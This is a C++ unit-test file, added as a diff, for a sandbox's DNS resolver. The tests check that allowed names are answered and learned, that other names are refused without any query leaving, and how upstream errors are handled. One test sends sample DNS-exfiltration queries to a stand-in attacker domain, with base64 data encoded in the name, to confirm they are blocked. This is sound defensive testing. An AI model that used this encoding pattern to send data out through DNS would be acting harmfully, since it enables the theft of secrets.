@@ -1,0 +1,215 @@
+// The sandbox's resolver against a nameserver of the test's own on
+// loopback: allowed names answered from upstream and learned, every other
+// name refused without a query leaving, an upstream that refuses heard as
+// a failure.
+#include "sentry/names/resolver.h"
+
+#include <arpa/inet.h>
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+
+#include <atomic>
+#include <cstdint>
+#include <mutex>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "sentry/names/dns_message.h"
+#include "tests/sentry/dns_message_builder.h"
+
+namespace vigil::sentry::names {
+namespace {
+
+using test::Ipv4;
+using test::Message;
+using ::testing::ElementsAre;
+using ::testing::IsEmpty;
+
+// A UDP socket on 127.0.0.1 and an ephemeral port.
+UniqueFd BoundSocket(sockaddr_in& address) {
+  UniqueFd socket(::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
+  address = {};
+  address.sin_family = AF_INET;
+  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  EXPECT_EQ(::bind(socket.Get(), reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
+  socklen_t length = sizeof address;
+  ::getsockname(socket.Get(), reinterpret_cast<sockaddr*>(&address), &length);
+  return socket;
+}
+
+// The test's nameserver: api.example.com is a CNAME to two addresses,
+// refused.example.com is REFUSED, anything else NXDOMAIN. Counts what it
+// was asked.
+class Upstream {
+ public:
+  Upstream() : socket_(BoundSocket(address_)), thread_([this] { Serve(); }) {}
+  ~Upstream() {
+    stop_ = true;
+    thread_.join();
+  }
+  std::string Csv() const { return "127.0.0.1:" + std::to_string(ntohs(address_.sin_port)); }
+  std::vector<std::string> asked() {
+    std::lock_guard lock(mutex_);
+    return asked_;
+  }
+
+ private:
+  void Serve() {
+    std::vector<std::uint8_t> buffer(4096);
+    while (!stop_) {
+      pollfd ready{.fd = socket_.Get(), .events = POLLIN, .revents = 0};
+      if (::poll(&ready, 1, 20) <= 0) continue;
+      sockaddr_storage from{};
+      socklen_t length = sizeof from;
+      ssize_t got = ::recvfrom(socket_.Get(), buffer.data(), buffer.size(), 0,
+                               reinterpret_cast<sockaddr*>(&from), &length);
+      if (got <= 0) continue;
+      std::vector<std::uint8_t> query(buffer.begin(), buffer.begin() + got);
+      Result<Question> question = ParseQuery(query);
+      if (!question) continue;
+      {
+        std::lock_guard lock(mutex_);
+        asked_.push_back(question->name);
+      }
+      std::vector<std::uint8_t> answer;
+      if (question->name == "api.example.com" && question->type == kTypeA) {
+        Message m(question->id, 0x8180, 1, 3);
+        m.Question("api.example.com", kTypeA)
+            .Cname("api.example.com", 300, "edge.cdn.example.net")
+            .Record("edge.cdn.example.net", kTypeA, 30, Ipv4("192.0.2.10"))
+            .Record("edge.cdn.example.net", kTypeA, 30, Ipv4("192.0.2.11"));
+        answer = m.bytes();
+      } else if (question->name == "refused.example.com") {
+        answer = AnswerWithout(query, Rcode::kRefused);
+      } else {
+        answer = AnswerWithout(query, Rcode::kNameError);
+      }
+      ::sendto(socket_.Get(), answer.data(), answer.size(), 0, reinterpret_cast<sockaddr*>(&from),
+               length);
+    }
+  }
+
+  sockaddr_in address_{};
+  UniqueFd socket_;
+  std::atomic<bool> stop_ = false;
+  std::mutex mutex_;
+  std::vector<std::string> asked_;
+  std::thread thread_;
+};
+
+class ResolverTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    Result<std::unique_ptr<EventLoop>> loop = EventLoop::Create(4);
+    ASSERT_TRUE(loop) << loop.error().message;
+    loop_ = std::move(*loop);
+    Result<std::unique_ptr<Resolver>> resolver = Resolver::Start(
+        *loop_, BoundSocket(resolver_address_), learned_,
+        {.allowed = [](std::string_view name) { return name.ends_with("example.com"); },
+         .record = [this](const Resolution& r) { resolutions_.push_back(r); },
+         .upstream = upstream_.Csv()});
+    ASSERT_TRUE(resolver) << resolver.error().message;
+    resolver_ = std::move(*resolver);
+    client_ = UniqueFd(::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
+  }
+
+  // Sends each query to the resolver, then serves the loop until as many
+  // answers came back; returns them in arrival order.
+  std::vector<std::vector<std::uint8_t>> Ask(const std::vector<Message>& queries) {
+    for (const Message& query : queries) {
+      ::sendto(client_.Get(), query.bytes().data(), query.bytes().size(), 0,
+               reinterpret_cast<const sockaddr*>(&resolver_address_), sizeof resolver_address_);
+    }
+    std::vector<std::vector<std::uint8_t>> answers;
+    EXPECT_TRUE(loop_->Watch(client_.Get(), [&](std::uint32_t) {
+      std::vector<std::uint8_t> buffer(4096);
+      ssize_t got;
+      while ((got = ::recv(client_.Get(), buffer.data(), buffer.size(), 0)) > 0) {
+        answers.emplace_back(buffer.begin(), buffer.begin() + got);
+      }
+    }));
+    EXPECT_TRUE(loop_->Run([&] { return answers.size() >= queries.size(); }));
+    loop_->Unwatch(client_.Get());
+    return answers;
+  }
+
+  Upstream upstream_;
+  LearnedNames learned_{std::chrono::seconds(10)};
+  sockaddr_in resolver_address_{};
+  std::unique_ptr<EventLoop> loop_;
+  std::unique_ptr<Resolver> resolver_;
+  std::vector<Resolution> resolutions_;
+  UniqueFd client_;
+};
+
+Message Query(std::uint16_t id, const std::string& name, std::uint16_t type = kTypeA) {
+  Message query(id, 0x0100, 1, 0);
+  query.Question(name, type);
+  return query;
+}
+
+TEST_F(ResolverTest, AnAllowedNameIsAnsweredFromUpstreamAndLearned) {
+  std::vector<std::vector<std::uint8_t>> answers = Ask({Query(0x4242, "API.example.com")});
+  ASSERT_EQ(answers.size(), 1u);
+  EXPECT_EQ(answers[0][0], 0x42);  // the client's own id
+  EXPECT_EQ(answers[0][1], 0x42);
+  EXPECT_EQ(AddressesIn(answers[0], kTypeA).size(), 2u);
+  const std::vector<std::uint8_t> address = Ipv4("192.0.2.11");
+  EXPECT_THAT(learned_.NamesOf(AF_INET, address.data(), LearnedNames::Clock::now()),
+              ElementsAre("api.example.com"));
+  ASSERT_EQ(resolutions_.size(), 1u);
+  EXPECT_TRUE(resolutions_[0].allowed);
+  EXPECT_EQ(resolutions_[0].rcode, Rcode::kNoError);
+  EXPECT_EQ(resolutions_[0].addresses.size(), 2u);
+  EXPECT_THAT(upstream_.asked(), ElementsAre("api.example.com"));
+}
+
+TEST_F(ResolverTest, ARefusedNameNeverLeaves) {
+  // A name that carries data out, as DNS exfiltration does.
+  std::vector<std::vector<std::uint8_t>> answers =
+      Ask({Query(7, "c2VjcmV0.leak.attacker.test"), Query(8, "api.example.com.attacker.test")});
+  ASSERT_EQ(answers.size(), 2u);
+  for (const auto& answer : answers) {
+    EXPECT_EQ(answer[3] & 0xf, static_cast<int>(Rcode::kRefused));
+    EXPECT_EQ(answer[2] & 0x80, 0x80);
+  }
+  EXPECT_THAT(upstream_.asked(), IsEmpty());
+  ASSERT_EQ(resolutions_.size(), 2u);
+  EXPECT_EQ(resolutions_[0].name, "c2vjcmv0.leak.attacker.test");
+  EXPECT_FALSE(resolutions_[0].allowed);
+  EXPECT_EQ(learned_.size(), 0u);
+}
+
+TEST_F(ResolverTest, AnswersAQueryPairAsGlibcSendsIt) {
+  // glibc sends A and AAAA at once (sendmmsg); each gets its own answer.
+  std::vector<std::vector<std::uint8_t>> answers =
+      Ask({Query(1, "api.example.com"), Query(2, "api.example.com", kTypeAaaa)});
+  ASSERT_EQ(answers.size(), 2u);
+  EXPECT_EQ(resolutions_.size(), 2u);
+}
+
+TEST_F(ResolverTest, NoSuchNameAndAnUpstreamRefusalReachTheClient) {
+  std::vector<std::vector<std::uint8_t>> answers =
+      Ask({Query(3, "nothing.example.com"), Query(4, "refused.example.com")});
+  ASSERT_EQ(answers.size(), 2u);
+  for (const auto& answer : answers) {
+    const int id = answer[1];
+    const int rcode = answer[3] & 0xf;
+    if (id == 3) {
+      EXPECT_EQ(rcode, static_cast<int>(Rcode::kNameError));
+    }
+    // Every upstream refused: the client hears a failure, not a refusal
+    // of vigil's.
+    if (id == 4) {
+      EXPECT_EQ(rcode, static_cast<int>(Rcode::kServerFailure));
+    }
+  }
+  EXPECT_EQ(learned_.size(), 0u);
+}
+
+}  // namespace
+}  // namespace vigil::sentry::names
